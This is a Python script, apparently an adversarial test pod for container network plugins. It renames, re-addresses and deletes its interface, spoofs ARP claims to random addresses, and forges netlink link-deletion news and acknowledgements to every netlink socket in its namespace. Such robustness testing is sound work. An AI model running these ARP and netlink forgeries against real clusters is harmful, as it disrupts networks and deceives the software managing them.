"""A container with CAP_NET_ADMIN and CAP_NET_RAW that does whatever it can to those who set up its network. Usage: restless-pod.py SECONDS

Takes its interface down, renames it, changes its MAC and addresses, deletes it, claims other addresses by ARP, and sends forged netlink
acknowledgements and news to every socket of its namespace.
"""
import random
import socket
import struct
import subprocess
import sys
import time

RTM_DELLINK, NLMSG_ERROR, RTMGRP_LINK = 17, 2, 1
MISCHIEF = [
    "link set eth0 down",
    "link set eth0 name eth9",
    "link set eth9 name eth0",
    "link set eth0 address 02:00:00:00:00:66",
    "addr flush dev eth0",
    "addr add 10.244.77.77/16 dev eth0",
    "route flush dev eth0",
    "neigh flush dev eth0",
    "link set eth0 mtu 1300",
    "link set eth0 alias tortie:net1/victim/eth0",
    "link add eth0 type bridge",
    "link del eth0",
]


def forge():
    forger = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    for index in range(1, 12):
        news = struct.pack("=BxHiII", 0, 0, index, 0, 0)
        forger.sendto(struct.pack("=IHHII", 32, RTM_DELLINK, 0, 0, 0) + news, (0, RTMGRP_LINK))
    with open("/proc/self/net/netlink") as sockets:
        ports = [int(line.split()[2]) for line in sockets.readlines()[1:]]
    for port in filter(None, ports):
        for sequence in range(1, 40):
            try:
                forger.sendto(struct.pack("=IHHII", 36, NLMSG_ERROR, 0, sequence, port) + bytes(20), (port, 0))
            except OSError:
                break


def claim():
    try:
        link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        link.bind(("eth0", 0))
        address = socket.inet_aton("10.244.%d.%d" % (random.randrange(256), random.randrange(256)))
        own = link.getsockname()[4]
        link.send(b"\xff" * 6 + own + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + address + bytes(6) + address)
    except OSError:
        pass


end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    forge()
    claim()
    subprocess.run(["/usr/sbin/ip", *random.choice(MISCHIEF).split()], stderr=subprocess.DEVNULL)
